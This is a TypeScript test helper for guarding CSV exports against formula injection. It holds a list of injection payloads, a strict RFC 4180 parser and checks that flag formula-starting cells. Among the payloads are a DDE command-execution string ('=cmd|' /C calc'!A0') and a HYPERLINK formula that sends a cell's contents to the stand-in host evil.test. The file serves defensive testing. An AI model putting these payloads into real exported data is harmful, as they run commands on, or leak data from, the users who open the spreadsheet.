/**
 * CSV injection (OWASP): the payloads, a strict RFC 4180 reader that splits rows the way a spreadsheet does (a bare
 * CR or LF outside quotes ends the row), and the check that no cell, nor any line within a cell, starts a formula.
 */

/** Values a stranger may get into an exported cell: formula starts at the cell's start and after a line break. */
export const CSV_INJECTION_PAYLOADS: readonly string[] = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  "=cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.test/?"&A1,"Click")',
  'ann\n=1+1',
  'ann\r=1+1',
  'ann\r\n+1+1',
  'ann\n\t=1+1',
  'ann\n\n-1+1',
  'ann\r\n@SUM(1+1)',
  'a,=1+1',
  'a;=1+1',
  'a\t=1+1',
  '"=1+1"',
  'say "hi"',
  '\uFF1D1+1',
  '\uFF0B1+1',
  '\uFF0D1+1',
  '\uFF20SUM(1+1)',
  'ann\n\uFF1D1+1',
];

/** What a spreadsheet may take for the start of a formula, at the start of a cell or of a line in it. */
const FORMULA_START = /^[=+\-@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20]/;

/**
 * Reads CSV strictly (RFC 4180): a quoted field may hold anything, a quote inside it doubled; an unquoted field
 * holds no quote and ends at a comma or at CR LF, CR or LF (which end the row). Anything else throws.
 */
export function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  const endRow = () => {
    rows.push(row);
    row = [];
    i += text.startsWith('\r\n', i) ? 2 : 1;
  };
  while (i < text.length) {
    let field = '';
    if (text[i] === '"') {
      i++;
      for (;;) {
        if (i >= text.length) throw new Error('unterminated quoted field');
        if (text[i] === '"') {
          if (text[i + 1] === '"') {
            field += '"';
            i += 2;
            continue;
          }
          i++;
          break;
        }
        field += text[i++];
      }
      if (i < text.length && !/[,\r\n]/.test(text[i])) {
        throw new Error(`text after a closing quote at ${i}`);
      }
    } else {
      while (i < text.length && !/[,\r\n]/.test(text[i])) {
        if (text[i] === '"') throw new Error(`a quote in an unquoted field at ${i}`);
        field += text[i++];
      }
    }
    row.push(field);
    if (i >= text.length) {
      rows.push(row);
      break;
    }
    if (text[i] === ',') {
      i++;
      if (i >= text.length) rows.push([...row, '']);
    } else endRow();
  }
  return rows;
}

/** The cells (of every row) that a spreadsheet could run: one starting a formula, or a line in it that does. */
export function formulaCells(rows: string[][]): string[] {
  return rows
    .flat()
    .filter(
      (cell) => FORMULA_START.test(cell) || cell.split(/\r\n|\r|\n/).some((l) => FORMULA_START.test(l)),
    );
}

/** A cell as it was before the export's guard: the `'` put before a formula start at each line's start removed. */
export function unguarded(cell: string): string {
  return cell.replace(/(^|\r\n|\r|\n)'/g, '$1');
}
